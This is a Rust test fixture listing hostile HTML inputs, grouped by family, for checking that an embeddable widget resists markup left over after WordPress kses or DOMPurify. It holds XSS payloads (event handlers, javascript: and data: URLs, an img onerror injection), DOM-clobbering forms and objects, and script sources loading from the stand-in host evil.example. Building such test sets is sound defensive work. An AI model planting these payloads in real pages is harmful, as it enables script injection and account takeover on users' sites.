//! Hostile markup, by family, from people who may save text on a page but no script. Sanitisers see
//! it first: WordPress's kses, DOMPurify. `https://evil.example` is a server that no script named,
//! and `https://site.example` is the page's own site.

/// Sets the one global that shows that something ran.
macro_rules! own {
    () => {
        "globalThis.owned=1"
    };
}

/// A form and an object that shadow a property of `document`, with the site's own address: kses
/// lets the second through.
macro_rules! replace {
    ($name:literal) => {
        concat!(
            "<form name=\"", $name, "\"></form><object id=\"", $name, "\" type=\"application/pdf\" ",
            "data=\"https://site.example/wp-content/uploads/x.pdf\" data-x=\"https://evil.example/undersigned.js\"></object>"
        )
    };
}

/// Each family with its inputs. The first of each family is tried in every browser.
const FAMILIES: [(&str, &[&str]); 11] = [
    (
        "handlers",
        &[
            concat!(
                "<div data-widget=\"share\" data-tabindex=\"0\" data-autofocus=\"\" data-onfocus=\"",
                own!(),
                "\">x</div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-style=\"animation:x 1s\" data-onanimationstart=\"",
                own!(),
                "\"></div>"
            ),
            concat!(
                "<div data-widget=\"signature\" data-declaration=\"no-such\" data-onpointerover=\"",
                own!(),
                "\"></div>"
            ),
            concat!(
                "<div data-widget=\"signup\" data-list=\"no-such\" data-onclick=\"",
                own!(),
                "\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-on-focus=\"",
                own!(),
                "\" data-tabindex=\"0\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-is=\"undersigned-signature\" data-slot=\"a\" data-part=\"button\" data-onload=\"",
                own!(),
                "\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-contenteditable=\"\" data-oninput=\"",
                own!(),
                "\" data-onmouseover=\"",
                own!(),
                "\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-popover=\"\" data-onbeforetoggle=\"",
                own!(),
                "\" data-id=\"body\" data-class=\"admin\"></div>"
            ),
        ],
    ),
    (
        "servers",
        &[
            "<div data-widget=\"share\" data-server=\"https://evil.example\"></div>",
            "<div data-widget=\"share\" data-server=\"https://evil.example/\"></div>",
            "<div data-widget=\"share\" data-server=\"//evil.example\"></div>",
            "<div data-widget=\"share\" data-server=\"https:evil.example\"></div>",
            "<div data-widget=\"share\" data-server=\" https://evil.example\t\"></div>",
            "<div data-widget=\"signature\" data-declaration=\"no-such\" data-server=\"https://evil.example/d/\"></div>",
            "<div data-widget=\"signup\" data-list=\"no-such\" data-servers=\"https://evil.example\" data-server=\"https://evil.example\"></div>",
            "<div data-widget=\"share\" data-server=\"https://127.0.0.1@evil.example\"></div>",
            concat!(
                "<div data-widget=\"share\" data-server=\"javascript:",
                own!(),
                "//\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-server=\"data:text/javascript,",
                own!(),
                ";//\"></div>"
            ),
        ],
    ),
    (
        "links",
        &[
            "<div data-widget=\"signature\" data-declaration=\"x\"><a href=\"https://evil.example/d/x\">Sign</a></div>",
            "<div data-widget=\"signup\" data-list=\"x\"><a href=\"https://evil.example/l/x\">Join</a></div>",
            "<div data-widget=\"signature\" data-declaration=\"x\"><p><b><a href=\"https://evil.example/d/x?from=here\">Sign</a></b></p></div>",
            "<div data-widget=\"signature\" data-declaration=\"x\"><a href=\"//evil.example/d/x\">Sign</a></div>",
            "<div data-widget=\"signature\" data-declaration=\"x\"><a href=\"https://site.example/d/x\">A</a><a href=\"https://evil.example/d/x\">B</a></div>",
            "<div data-widget=\"signature\" data-declaration=\"x\"><svg><a href=\"https://evil.example/d/x\"><text>Sign</text></a></svg></div>",
            "<div data-widget=\"signature\" data-declaration=\"x\" data-server=\"https://evil.example\"><a href=\"https://evil.example/d/x\">Sign</a></div>",
        ],
    ),
    (
        "bundles",
        &[
            "<div data-widget=\"share\" data-bundle=\"https://evil.example\"></div>",
            "<div data-widget=\"share\" data-bundle=\"//evil.example\"></div>",
            "<div data-widget=\"share\" data-bundle=\"/\\evil.example\"></div>",
            "<div data-widget=\"share\" data-bundle=\"http://[\"></div>",
            concat!(
                "<div data-widget=\"share\" data-bundle=\"data:text/javascript,",
                own!(),
                ";//\" data-glue=\"https://evil.example/a.js\" data-wasm=\"https://evil.example/a.wasm\"></div>"
            ),
        ],
    ),
    (
        "document",
        &[
            "<object id=\"scripts\" type=\"application/pdf\" data=\"https://site.example/wp-content/uploads/x.pdf\" data-x=\"https://evil.example/undersigned.js\"></object><object id=\"scripts\" type=\"application/pdf\" data=\"https://site.example/wp-content/uploads/x.pdf\" data-x=\"https://evil.example/undersigned.js\"></object>",
            replace!("querySelectorAll"),
            concat!(replace!("querySelector"), replace!("title")),
            concat!(
                replace!("createElement"),
                replace!("createElementNS"),
                replace!("createTextNode")
            ),
            concat!(replace!("body"), replace!("head")),
            replace!("baseURI"),
            concat!(replace!("forms"), replace!("images"), replace!("links")),
            replace!("currentScript"),
            concat!(
                replace!("hidden"),
                replace!("readyState"),
                replace!("visibilityState")
            ),
            concat!(
                replace!("addEventListener"),
                replace!("removeEventListener"),
                replace!("dispatchEvent")
            ),
            concat!(
                replace!("defaultView"),
                replace!("documentElement"),
                replace!("activeElement")
            ),
            concat!(
                replace!("getElementById"),
                replace!("getElementsByTagName"),
                replace!("location")
            ),
            concat!(
                replace!("adoptedStyleSheets"),
                replace!("cookie"),
                replace!("domain"),
                replace!("URL")
            ),
            "<img id=\"scripts\" name=\"scripts\" alt=\"\" data-src=\"https://evil.example/undersigned.js\"><img name=\"location\" id=\"location\" alt=\"\">",
        ],
    ),
    (
        "window",
        &[
            "<a id=\"addEventListener\" href=\"https://evil.example/\">a</a><a id=\"removeEventListener\" href=\"https://evil.example/\">a</a>",
            "<a id=\"customElements\" href=\"https://evil.example/\">a</a><a id=\"trustedTypes\" href=\"https://evil.example/\">a</a>",
            "<a id=\"navigator\" href=\"https://evil.example/\">a</a><a id=\"fetch\" href=\"https://evil.example/\">a</a><a id=\"undersigned\" href=\"https://evil.example/\">a</a>",
            "<a id=\"HOME\" href=\"https://evil.example/\">a</a><a id=\"servers\" href=\"https://evil.example/\">a</a><a id=\"UNDERSIGNED_SERVER\" href=\"https://evil.example/\">a</a>",
            "<form id=\"self\" name=\"self\"></form><form id=\"top\" name=\"parent\"></form><a id=\"origin\" href=\"https://evil.example/\">a</a>",
        ],
    ),
    (
        "forms",
        &[
            "<form data-widget=\"share\"><button name=\"dataset\">a</button><button name=\"localName\">b</button><button name=\"getAttribute\">c</button></form>",
            "<div data-widget=\"share\"><form><button name=\"localName\">a</button><button name=\"matches\">b</button></form></div>",
            "<form lang=\"fr\"><button name=\"lang\">a</button><div data-widget=\"share\"></div></form>",
            "<div data-widget=\"signature\" data-declaration=\"no-such\"><form action=\"https://evil.example/d/no-such\"><button name=\"querySelectorAll\">a</button></form></div>",
        ],
    ),
    (
        "names",
        &[
            "<div data-widget=\"constructor\" data-server=\"https://evil.example\"></div>",
            "<div data-widget=\"__proto__\"></div><div data-widget=\"toString\"></div>",
            "<div data-widget=\"script\" data-src=\"https://evil.example/a.js\"></div>",
            "<div data-widget=\"SIGNATURE\"></div><div data-widget=\"share \"></div><div data-widget=\"\"></div>",
            "<section data-widget=\"share\" data-server=\"https://evil.example\"></section><p data-widget=\"share\" data-server=\"https://evil.example\"></p><a data-widget=\"share\" href=\"https://evil.example/\" data-server=\"https://evil.example\">a</a>",
        ],
    ),
    (
        "values",
        &[
            "<div data-widget=\"signature\" data-declaration=\"../../@evil.example\"></div>",
            "<div data-widget=\"signature\" data-declaration=\"x?y=https://evil.example/#\"></div>",
            concat!(
                "<div data-widget=\"share\" data-url=\"javascript:",
                own!(),
                "\" data-text=\"&quot;&gt;&lt;img src=x onerror=",
                own!(),
                "&gt;\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-follow=\"rss=javascript:",
                own!(),
                " x=https://evil.example/a\" data-networks=\"copy email\"></div>"
            ),
            concat!(
                "<div data-widget=\"share\" data-lang=\"&quot;&gt;&lt;script&gt;",
                own!(),
                "&lt;/script&gt;\" data-theme=\"x&quot;onload=a\" data-layout=\"&lt;b&gt;\"></div>"
            ),
            "<div data-widget=\"share\" data-networks=\"&lt;img src=https://evil.example/a.png&gt; copy\"></div>",
        ],
    ),
    (
        "elements",
        &[
            concat!(
                "<undersigned-share server=\"https://evil.example\" tabindex=\"0\" autofocus onfocus=\"",
                own!(),
                "\"></undersigned-share>"
            ),
            "<undersigned-signature declaration=\"x\"><a href=\"https://evil.example/d/x\">Sign</a></undersigned-signature>",
            "<undersigned-share><template shadowrootmode=\"open\"><div><div data-island data-glue=\"https://evil.example/a.js\" data-wasm=\"https://evil.example/a.wasm\" data-text=\"https://evil.example/a.json\"></div></div></template></undersigned-share>",
            "<div data-island data-glue=\"https://evil.example/a.js\"><div data-widget=\"share\" data-held=\"\" data-alive=\"\"></div></div>",
            "<div is=\"undersigned-share\" server=\"https://evil.example\" data-widget=\"share\"><div slot=\"x\" data-widget=\"share\" data-server=\"https://evil.example\"></div></div>",
        ],
    ),
    (
        "scripts",
        &[
            "<div data-src=\"https://evil.example/undersigned.js\" data-server=\"https://evil.example\" data-widget=\"share\"></div>",
            "<script src=\"https://evil.example/undersigned.js\" data-widget=\"share\"></script>",
            "<svg><script data-widget=\"share\" href=\"https://evil.example/undersigned.js\"></script></svg>",
            "<math><mtext><div data-widget=\"share\" data-server=\"https://evil.example\"></div></mtext></math>",
            "<link rel=\"canonical\" href=\"https://evil.example/\"><base href=\"https://evil.example/\"><div data-widget=\"share\"></div>",
            "<a href=\"https://evil.example/undersigned.js\" data-server=\"https://evil.example\" data-servers=\"https://evil.example\">undersigned.js</a>",
            "<details data-widget=\"share\" data-server=\"https://evil.example\" open><summary data-src=\"https://evil.example/local.js\" data-bundle=\"https://evil.example\">a</summary></details>",
        ],
    ),
];

/// Family and markup of each input, in the order of `tests/browser/embed/kses.json`.
pub(crate) fn inputs() -> Vec<(&'static str, &'static str)> {
    let families = FAMILIES.iter();
    families
        .flat_map(|(family, inputs)| inputs.iter().map(|input| (*family, *input)))
        .collect()
}
